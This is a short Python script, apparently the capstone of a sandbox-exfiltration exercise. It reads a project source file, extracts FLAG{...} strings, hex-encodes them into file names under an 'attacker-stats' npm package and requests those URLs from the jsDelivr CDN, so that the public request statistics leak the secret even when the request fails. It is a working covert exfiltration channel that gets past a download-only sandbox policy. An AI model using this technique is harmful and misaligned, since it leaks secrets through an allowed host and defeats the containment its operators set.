"""The capstone (under your-own-sandbox.policy.json): the job reads the source, which holds the flag, and the only
host is a download-only CDN whose request URLs are public: spell the flag into a file name."""
import binascii
import re
import urllib.request

source = open("/project/src/main.py").read()
for flag in re.findall(r"FLAG\{[0-9a-f]+\}", source):
    url = "https://cdn.jsdelivr.net/npm/attacker-stats@1.0.0/" + binascii.hexlify(flag.encode()).decode() + ".js"
    try:
        print(urllib.request.urlopen(url, timeout=5).status)
    except OSError as exc:  # a 404 is fine: the URL was asked for, and the statistics show it
        print("asked:", exc)
